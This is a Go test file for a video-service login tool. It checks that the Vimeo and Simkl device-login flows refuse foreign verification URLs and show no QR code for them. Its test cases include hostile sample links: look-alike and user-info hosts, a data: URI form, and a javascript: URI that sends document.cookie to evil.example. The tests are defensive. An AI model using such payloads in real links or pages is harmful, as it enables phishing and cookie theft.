package main

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/videoauth/videoauth/videoauthtest"
)

// deviceURIQRMarks are the half blocks qrCode draws with: a QR code on the
// screen shows them.
var deviceURIQRMarks = []string{"▀", "▄", "█"}

// TestDeviceLoginRefusesAForeignVerificationURL: a device answer that sends
// the user to a page that is not the service's own https page (another
// host, plain http, user info, a javascript: or data: URI) is refused by
// the library (RFC 8628 §5.4), and the tool says so: the link is neither
// printed nor put into a QR code, nothing is polled, nothing is stored. The
// same answer with the service's own page is shown, QR code and all.
func TestDeviceLoginRefusesAForeignVerificationURL(t *testing.T) {
	const refused = "vimeo sent a verification URL that is not one of its own https pages; it is not shown"
	for _, tc := range []struct {
		name, link string
		shown      bool
	}{
		{"vimeo's own page", "https://vimeo.com/activate", true},
		{"another host", "https://evil.example/activate", false},
		{"a look-alike host", "https://vimeo.com.evil.example/activate", false},
		{"user info before another host", "https://vimeo.com@evil.example/activate", false},
		{"plain http", "http://vimeo.com/activate?evil.example", false},
		{"scheme-relative", "//evil.example/activate", false},
		{"javascript", "javascript:fetch('https://evil.example/'+document.cookie)//vimeo.com/activate", false},
		{"data", "data:text/html,<form action=https://evil.example>vimeo.com/activate", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var polls atomic.Int32
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "application/json")
				switch r.URL.Path {
				case "/oauth/device":
					_ = json.NewEncoder(w).Encode(map[string]any{"device_code": "d", "user_code": "ABCD1234",
						"activate_link": tc.link, "authorize_link": "https://api.vimeo.com/oauth/device/authorize", "expires_in": 300, "interval": 1})
				default: // the poll: the user said no
					polls.Add(1)
					w.WriteHeader(http.StatusBadRequest)
					_, _ = io.WriteString(w, `{"error":"access_denied"}`)
				}
			}))
			defer srv.Close()
			e := newEnv(t)
			e["VIDEOAUTH_VIMEO_CLIENT_ID"], e["VIDEOAUTH_VIMEO_CLIENT_SECRET"], e["VIDEOAUTH_VIMEO_API_URL"] = "id", "secret", srv.URL
			r := e.run(t, "", "login", "vimeo", "--device")
			all := r.out + r.err
			if tc.shown {
				require.Equal(t, exitDenied, r.code, r.err)
				assert.Contains(t, r.err, tc.link)
				assert.Contains(t, r.err, "█", "the QR code is drawn")
				return
			}
			require.Equal(t, exitFailure, r.code, r.err)
			assert.Contains(t, r.err, refused)
			assert.Contains(t, r.err, "Nothing was stored.")
			for _, bad := range []string{"evil.example", "javascript", "data:", "http://vimeo.com", "ABCD1234"} {
				assert.NotContains(t, all, bad)
			}
			for _, mark := range deviceURIQRMarks {
				assert.NotContains(t, all, mark, "no QR code")
			}
			assert.Zero(t, polls.Load(), "nothing is polled")
			keys, err := e.store(t, false).Keys(t.Context())
			require.NoError(t, err)
			assert.Empty(t, keys)
		})
	}
}

// TestSimklDeviceLoginRefusesAForeignVerificationURL: the same for Simkl,
// through the fake: a foreign verification_uri, or a foreign
// verification_uri_complete (the URL the QR code would encode) next to the
// right page, is never shown.
func TestSimklDeviceLoginRefusesAForeignVerificationURL(t *testing.T) {
	const refused = "simkl sent a verification URL that is not one of its own https pages; it is not shown"
	for _, tc := range []struct{ name, uri, complete string }{
		{"foreign page", "https://evil.example/pin", ""},
		{"foreign complete URI only", "", "https://evil.example/pin/CODE"},
		{"javascript complete URI", "", "javascript:location='https://evil.example/'"},
		{"data page", "data:text/html,evil.example", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fake := videoauthtest.NewSimkl()
			defer fake.Close()
			fake.SetVerificationURI(tc.uri, tc.complete)
			e := simklEnv(t, fake)
			r := e.run(t, "", "login", "simkl", "--device")
			all := r.out + r.err
			require.Equal(t, exitFailure, r.code, r.err)
			assert.Contains(t, r.err, refused)
			for _, bad := range []string{"evil.example", "javascript", "data:", fake.WebURL} {
				assert.NotContains(t, all, bad)
			}
			for _, mark := range deviceURIQRMarks {
				assert.NotContains(t, all, mark, "no QR code")
			}
			assert.Zero(t, fake.DevicePolls(), "nothing is polled")
			assert.False(t, strings.Contains(all, "enter the code"), "no device screen")
		})
	}
}
